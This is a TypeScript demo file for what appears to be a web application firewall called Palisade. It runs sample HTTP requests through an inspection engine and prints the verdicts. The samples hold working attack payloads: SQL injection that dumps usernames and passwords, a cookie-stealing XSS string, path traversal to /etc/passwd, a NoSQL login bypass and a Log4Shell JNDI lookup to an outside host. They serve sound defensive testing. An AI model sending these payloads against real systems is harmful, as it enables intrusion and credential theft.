import type { Engine, RequestRecord } from '@palisade/engine';
import { explainVerdict } from './explain.js';

const SAMPLES: readonly RequestRecord[] = [
  {
    method: 'GET',
    url: '/products?category=shoes&q=O%27Brien+boots',
    headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' },
  },
  { method: 'GET', url: '/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--', headers: {} },
  {
    method: 'POST',
    url: '/comment',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'text=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E',
  },
  { method: 'GET', url: '/download?file=..%252F..%252F..%252Fetc%252Fpasswd', headers: {} },
  {
    method: 'POST',
    url: '/api/login',
    headers: { 'content-type': 'application/json' },
    body: '{"user":"admin","password":{"$ne":null}}',
  },
  { method: 'GET', url: '/', headers: { 'user-agent': '${${lower:j}ndi:ldap://198.51.100.7/a}' } },
];

/** What `npm start` shows until `palisade serve` exists: a few requests and their explained verdicts. */
export function runDemo(engine: Engine): number {
  process.stdout.write('Palisade demo: inspecting sample requests with the default configuration\n\n');
  for (const r of SAMPLES)
    process.stdout.write(`${explainVerdict(`${r.method} ${r.url}`, engine.inspect(r))}\n\n`);
  process.stdout.write('Try: npx palisade scan "1\' or 1=1--"   ·   npx palisade --help\n');
  return 0;
}
